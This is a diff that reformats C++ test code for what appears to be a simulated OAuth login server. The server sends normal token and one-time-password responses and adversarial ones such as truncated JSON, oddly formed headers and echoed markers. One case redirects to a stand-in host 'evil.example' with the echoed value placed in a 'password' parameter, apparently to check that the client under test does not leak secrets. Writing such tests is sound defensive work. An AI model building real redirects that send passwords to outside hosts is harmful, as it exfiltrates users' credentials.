@@ -70,20 +70,26 @@ void Conversation::give_good(std::string_view request) {
     // The first one has a message sent, whatever it brought: the one-time password is a second factor then.
     const bool first = has_member(text(hlid_flow_request_body(flow_)), "client_assertion");
     if (first) {
-      body.append(R"({"error":"insufficient_authorization","error_code":"otp_required","auth_session":")").append(fresh("auth_session"));
+      body.append(R"({"error":"insufficient_authorization","error_code":"otp_required","auth_session":")")
+          .append(fresh("auth_session"));
       body.append(R"(","login_status":{"state":"OTP_SENT"}})");
       return give_json(401, body);
     }
     body.append(R"({"authorization_code":")").append(fresh("code")).append("\"}");
   } else if (request == "token") {
-    body.append(R"({"access_token":")").append(fresh("access_token")).append(R"(","refresh_token":")").append(fresh("refresh_token"));
+    body.append(R"({"access_token":")")
+        .append(fresh("access_token"))
+        .append(R"(","refresh_token":")")
+        .append(fresh("refresh_token"));
     body.append(R"(","id_token":")").append(fresh("id_token")).append(R"(","token_type":"Bearer","issued_at":"1767225600123"})");
   } else if (request == "userinfo") {
     body.append(R"({"sub":"005","email":")").append(fresh("email")).append("\"}");
   } else if (request == "introspect") {
     body.append(R"({"active":true,"jti":")").append(fresh("introspected")).append("\"}");
   } else if (request == "single_access") {
-    body.append(R"({"frontdoor_uri":"https://acme.my.site.com/shop/secur/frontdoor.jsp?otp=)").append(fresh("frontdoor")).append("\"}");
+    body.append(R"({"frontdoor_uri":"https://acme.my.site.com/shop/secur/frontdoor.jsp?otp=)")
+        .append(fresh("frontdoor"))
+        .append("\"}");
   } else {
     must(request == "revoke");
   }
@@ -163,29 +169,37 @@ void Conversation::answer(std::string_view request, How how) {
       fill("", R"(","message":")");
       fill("", "\"}");
       return give_json(200, body);
-    case How::server_error:
-      fill("the server has no idea what ", " may be");
-      return give(503, {{"X-Echo", &mark}}, body);
+    case How::server_error: fill("the server has no idea what ", " may be"); return give(503, {{"X-Echo", &mark}}, body);
     case How::html:
       type.wipe();
       type.append("text/html");
       fill("<!DOCTYPE html><form><input value=\"", "\"></form>");
       return give(200, {{"Content-Type", &type}, {"Set-Cookie", &mark}}, body);
     case How::elsewhere:
-      location.append("https://evil.example/").append(encoded).append("?password=").append(encoded).append("&error=").append(encoded);
+      location.append("https://evil.example/")
+          .append(encoded)
+          .append("?password=")
+          .append(encoded)
+          .append("&error=")
+          .append(encoded);
       return give(302, {{"Location", &location}}, body);
     case How::sent_back:
-      location.append(kCallback).append("?error=invalid_grant&error_description=wrong+").append(encoded).append("&state=").append(marks_["state"]);
+      location.append(kCallback)
+          .append("?error=invalid_grant&error_description=wrong+")
+          .append(encoded)
+          .append("&state=")
+          .append(marks_["state"]);
       return give(302, {{"Location", &location}}, body);
     case How::wrong_state:
       location.append(kCallback).append("?code=").append("x").append("&state=");
       append_echo(location, false);
       return give(302, {{"Location", &location}}, body);
-    case How::cut_json:
-      fill(R"({"access_token":")", "");
-      return give_json(200, body);
+    case How::cut_json: fill(R"({"access_token":")", ""); return give_json(200, body);
     case How::both:
-      body.append(R"({"access_token":")").append(fresh("access_token")).append(R"(","authorization_code":")").append(fresh("code"));
+      body.append(R"({"access_token":")")
+          .append(fresh("access_token"))
+          .append(R"(","authorization_code":")")
+          .append(fresh("code"));
       fill(R"(","error":")", "\"}");
       return give_json(200, body);
     case How::other_type:
@@ -195,11 +209,8 @@ void Conversation::answer(std::string_view request, How how) {
     case How::many_headers:
       for (int i = 0; i < 300; ++i) (void)hlid_flow_give_header(flow_, hlid_str("X-Echo"), mark.view(), nullptr);
       return give(200, {}, body);
-    case How::odd_header:
-      return give(200, {{"Content-Type", &mark}, {"Content-Encoding", &mark}}, body);
-    case How::no_answer:
-      must(hlid_flow_give_no_answer(flow_, HLID_LEFT_MAYBE, mark.view(), nullptr) == HLID_OK);
-      return;
+    case How::odd_header: return give(200, {{"Content-Type", &mark}, {"Content-Encoding", &mark}}, body);
+    case How::no_answer: must(hlid_flow_give_no_answer(flow_, HLID_LEFT_MAYBE, mark.view(), nullptr) == HLID_OK); return;
   }
 }
 
